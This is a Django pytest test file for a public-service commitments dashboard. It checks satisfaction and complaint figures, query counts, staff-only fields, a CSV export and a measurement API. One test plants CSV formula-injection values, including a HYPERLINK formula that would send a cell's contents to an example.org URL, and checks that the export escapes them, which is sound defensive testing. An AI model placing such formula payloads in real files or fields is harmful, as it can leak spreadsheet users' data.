"""The commitments dashboard against figures computed by hand, and its fixed query cost."""

import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext

from feedback import services
from feedback.dashboard import build_dashboard
from feedback.models import Evaluation
from tests.factories import ComplaintFactory, QualityCommitmentFactory

pytestmark = pytest.mark.django_db
ROME = ZoneInfo("Europe/Rome")
NOW = datetime.datetime(2026, 6, 15, 12, 0, tzinfo=ROME)  # in 2026-Q2
QUARTERS = ["2026-Q1", "2026-Q2"]


def evaluation(service, period, overall, access=3):
    return Evaluation(
        service=service,
        service_key=service.key,
        access=access,
        timeliness=3,
        courtesy=3,
        clarity=3,
        overall=overall,
        created_at=NOW,
        period=period,
    )


def complaint(key, received, answered=None, **kwargs):
    received = received.replace(tzinfo=ROME)
    c = ComplaintFactory(service_key=key, received_at=received, **kwargs)
    if answered is not None:
        answered = answered.replace(tzinfo=ROME)
        c.first_answered_at = answered
        c.answered_in_time = answered <= c.deadline_at
        c.status = "answered"
        c.save()
    return c


@pytest.fixture
def world(carta, complaint_officer):
    sad = carta.assistenza
    key = sad.key
    Evaluation.objects.bulk_create(
        [
            evaluation(sad, "2026-Q1", 5, access=4),
            evaluation(sad, "2026-Q1", 3, access=2),
            evaluation(sad, "2026-Q2", 4),
            evaluation(sad, "2026-Q2", 4),
            evaluation(sad, "2026-Q2", 1),
            evaluation(carta.segretariato, "2026-Q2", 2),
            evaluation(sad, "2025-Q4", 1),  # outside the window
        ]
    )
    d = datetime.datetime
    # Q1: answered after 10 and 40 days (the second late), one after 20 days.
    complaint(key, d(2026, 1, 10, 9), d(2026, 1, 20, 9))
    complaint(key, d(2026, 2, 1, 9), d(2026, 3, 13, 9))
    complaint(key, d(2026, 3, 1, 9), d(2026, 3, 21, 9))
    # Q2: one overdue without answer, one still within its deadline, one with no service.
    complaint(key, d(2026, 4, 1, 9))
    complaint(key, d(2026, 6, 10, 9))
    complaint("", d(2026, 5, 5, 9), d(2026, 5, 6, 9))
    with time_machine.travel(d(2026, 4, 2, 10, tzinfo=ROME), tick=False):
        services.record_measurement(
            actor=complaint_officer, commitment=carta.attivazione, period="2026-Q1", value="25"
        )
        services.record_measurement(
            actor=complaint_officer,
            commitment=carta.soddisfatti.pk,
            period="2026-Q1",
            value="75.5",
            note="Indagine",
        )
    return key


def test_figures_match_hand_computed_expectations(world):
    with time_machine.travel(NOW, tick=False):
        data = build_dashboard(quarters=QUARTERS, staff=True)
    service = data["services"][0]
    assert service["key"] == "assistenza-domiciliare"

    sat = service["satisfaction"]["periods"]
    assert sat["2026-Q1"]["count"] == 2 and sat["2026-Q1"]["overall"] == 4.0
    assert sat["2026-Q1"]["access"] == 3.0
    assert sat["2026-Q2"]["count"] == 3 and sat["2026-Q2"]["overall"] == 3.0
    assert service["satisfaction"]["total"]["count"] == 5
    assert service["satisfaction"]["total"]["overall"] == 3.4  # (5+3+4+4+1)/5

    q1 = service["complaints"]["periods"]["2026-Q1"]
    assert q1["received"] == 3 and q1["answered"] == 3
    assert q1["median_response_days"] == 20.0  # 10, 40, 20 days
    assert q1["in_time_share"] == round(2 / 3, 4)
    q2 = service["complaints"]["periods"]["2026-Q2"]
    assert (q2["received"], q2["answered"], q2["overdue"], q2["open"]) == (2, 0, 1, 2)
    assert q2["in_time_share"] == 0.0  # the only due complaint is late
    total = service["complaints"]["total"]
    assert total["received"] == 5 and total["in_time_share"] == 0.5  # 2 in time of 4 due

    attivazione, soddisfatti = service["commitments"]
    assert attivazione["periods"]["2026-Q1"]["value"] == Decimal("25.00")
    assert attivazione["periods"]["2026-Q1"]["met"] is True  # at most 30 days
    assert soddisfatti["periods"]["2026-Q1"]["met"] is False  # at least 80%
    assert soddisfatti["periods"]["2026-Q1"]["note"] == "Indagine"
    assert attivazione["periods"]["2026-Q2"] is None
    assert soddisfatti["latest_met"] is False

    overall = data["overall"]
    assert overall["satisfaction"]["periods"]["2026-Q2"]["count"] == 4
    assert overall["satisfaction"]["periods"]["2026-Q2"]["overall"] == 2.75  # (4+4+1+2)/4
    assert overall["complaints"]["total"]["received"] == 6
    assert overall["complaints_without_service"]["received"] == 1
    assert overall["complaints"]["total"]["median_response_days"] == 15.0  # 1,10,20,40


def test_public_figures_omit_staff_details(world):
    with time_machine.travel(NOW, tick=False):
        data = build_dashboard(quarters=QUARTERS, staff=False)
    service = data["services"][0]
    assert "overdue" not in service["complaints"]["total"]
    assert "note" not in service["commitments"][1]["periods"]["2026-Q1"]


@pytest.mark.parametrize("extra", [0, 40])
def test_dashboard_costs_a_fixed_number_of_queries(carta, world, extra, django_assert_num_queries):
    key = "assistenza-domiciliare"
    Evaluation.objects.bulk_create(
        [evaluation(carta.assistenza, "2026-Q2", 3) for _ in range(extra)]
    )
    for _ in range(extra // 10):
        complaint(key, datetime.datetime(2026, 5, 1), datetime.datetime(2026, 5, 3))
    # Services in force, their commitments (prefetched), measurements (latest versions),
    # improvement actions, evaluation aggregate, complaint aggregate, response times.
    with time_machine.travel(NOW, tick=False), django_assert_num_queries(7):
        build_dashboard(quarters=QUARTERS, staff=True)


def page_queries(client, url) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


def test_dashboard_pages_and_api_cost_the_same_with_more_rows(
    client_as, api, complaint_officer, carta, world
):
    staff = client_as(complaint_officer)
    urls = [
        (client_as(None), "/valuta-e-segnala/impegni/"),
        (staff, "/valuta-e-segnala/impegni/dettaglio/"),
        (api, "/api/v1/dashboard/"),
        (client_as(None), "/valuta-e-segnala/impegni.csv"),
    ]
    for c, url in urls:
        c.get(url)  # warm per-process caches (content types, permissions)
    before = [page_queries(c, url) for c, url in urls]
    key = "assistenza-domiciliare"
    Evaluation.objects.bulk_create([evaluation(carta.assistenza, "2026-Q2", 5) for _ in range(30)])
    for _ in range(5):
        complaint(key, datetime.datetime(2026, 5, 1), datetime.datetime(2026, 5, 3))
    assert [page_queries(c, url) for c, url in urls] == before


def test_csv_export_has_one_figure_per_row(client, world):
    with time_machine.travel(NOW, tick=False):
        response = client.get("/valuta-e-segnala/impegni.csv")
    lines = response.content.decode().splitlines()
    assert lines[0] == "service_key,service,period,measure,value,target,unit,met"
    assert any(
        line.startswith("assistenza-domiciliare") and ",25.00,30.00," in line for line in lines
    )


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client, carta, complaint_officer):
    import csv
    import io

    carta.assistenza.title = '=HYPERLINK("https://example.org/?"&A1,"Apri")'
    carta.assistenza.save()
    carta.attivazione.unit = "@SUM(A1:A9)"
    carta.attivazione.save()
    with time_machine.travel(NOW, tick=False):
        services.record_measurement(
            actor=complaint_officer, commitment=carta.attivazione, period="2026-Q1", value="-3"
        )
        response = client.get("/valuta-e-segnala/impegni.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    measured = [row for row in rows if row[3].startswith("impegno")]
    assert measured, rows
    service, value, unit = measured[0][1], measured[0][4], measured[0][6]
    assert service == "'" + carta.assistenza.title
    assert unit == "'@SUM(A1:A9)"
    assert value == "-3.00"  # a negative number stays a number
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


def test_staff_records_a_measurement_through_the_api(api_as, complaint_officer, carta):
    client = api_as(complaint_officer)
    response = client.post(
        "/api/v1/commitment-measurements/",
        {"commitment": carta.attivazione.pk, "period": "2025-Q4", "value": "28.5"},
    )
    assert response.status_code == 201, response.json()
    assert response.json()["direction"] == "at_most"
    assert response.json()["commitment"] == carta.attivazione.pk
    other = QualityCommitmentFactory(service=carta.superseded)  # not in force
    bad = client.post(
        "/api/v1/commitment-measurements/",
        {"commitment": other.pk, "period": "2025-Q4", "value": 1},
    )
    assert bad.status_code == 400 and "commitment" in bad.json()["errors"]
    future = client.post(
        "/api/v1/commitment-measurements/",
        {"commitment": carta.attivazione.pk, "period": "2999-Q1", "value": 1},
    )
    assert future.status_code == 400 and "period" in future.json()["errors"]
